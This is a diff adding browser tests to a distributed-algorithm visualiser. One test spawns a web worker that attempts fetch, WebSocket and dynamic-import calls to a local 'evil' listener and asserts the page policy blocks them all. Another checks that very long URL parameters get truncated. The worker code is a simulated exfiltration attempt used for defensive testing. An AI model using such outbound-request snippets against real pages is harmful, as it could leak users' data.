@@ -5,7 +5,7 @@ import type { AddressInfo } from "node:net";
 import { resolve } from "node:path";
 import type { Page } from "@playwright/test";
 import { catalogue } from "@ringleader/core";
-import { pageTexts, type PageText } from "../hostile/page-texts.ts";
+import { pageTexts, requests, type PageText } from "../hostile/page-texts.ts";
 import { expect, setUsualPatience, test } from "./patient.ts";
 
 /** Opens an address that must get no request, and counts its connections. */
@@ -150,4 +150,45 @@ for (const where of ["a static server", "serve"] as const) {
       }
     });
   }
+}
+
+test("policy: a worker that inherits it sends nothing, even if it is not confined", async ({
+  page,
+}) => {
+  const evil = await listen();
+  await page.goto("/#algorithm=peterson&n=5&seed=1");
+  await expect(fact(page)).toBeVisible();
+  const code = `const evil = ${JSON.stringify(evil.address)}, g = self;
+    ${requests.map((request) => `try { ${request} } catch {}`).join("\n")}
+    import(evil + "module").catch(() => {});
+    const socket = new WebSocket(evil.replace("http", "ws"));
+    socket.onerror = () => fetch(evil).then(() => postMessage("sent"), () => postMessage("blocked"));`;
+  const answer = await page.evaluate((text) => {
+    const blob = new Blob([text], { type: "text/javascript" });
+    const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
+    return new Promise((fulfil) => worker.addEventListener("message", ({ data }) => fulfil(data)));
+  }, code);
+  expect(answer).toBe("blocked");
+  expect(evil.connections).toEqual([]);
+  evil.close();
+});
+
+/** The keys of an address. */
+const keys = "algorithm n ids wake links schedule seed violate elects hand open tour other".split(
+  " ",
+);
+for (const view of ["watch", "compare", "check", "measure", "learn", "write"]) {
+  test(`long words: a link of 60,000 letters is answered in a few, view ${view} @full`, async ({
+    page,
+  }) => {
+    for (const key of keys) {
+      const run = key === "algorithm" ? "" : "&algorithm=chang-roberts&n=5";
+      await page.goto(`/?${key}#view=${view}${run}&${key}=${"x".repeat(60_000)}`);
+      await expect(page.getByRole("tablist").first()).toBeVisible();
+      const shown = () => page.locator("body").innerText();
+      await expect.poll(async () => (await shown()).length, key).toBeGreaterThan(100);
+      await expect(page.getByText("Running …")).toHaveCount(0);
+      expect((await shown()).match(/x{100,}/g), key).toBeNull();
+    }
+  });
 }
